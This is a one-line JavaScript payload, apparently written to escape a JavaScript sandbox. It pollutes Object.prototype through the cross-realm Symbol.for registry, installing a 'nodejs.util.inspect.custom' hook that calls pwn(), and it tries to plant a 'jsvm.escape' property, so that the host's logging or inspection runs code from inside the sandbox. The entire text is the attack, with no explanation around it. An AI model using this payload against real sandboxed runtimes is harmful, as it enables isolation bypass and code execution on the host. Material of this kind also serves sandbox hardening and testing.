// cross-realm Symbol.for registry shared with the host
const s = Symbol.for('nodejs.util.inspect.custom'); Object.prototype[s] = function () { pwn(this) }; try { Object.defineProperty(Object.prototype, Symbol.for('jsvm.escape'), { value: 1 }) } catch (e) {} log({ [s]: () => pwn(1) }); 1
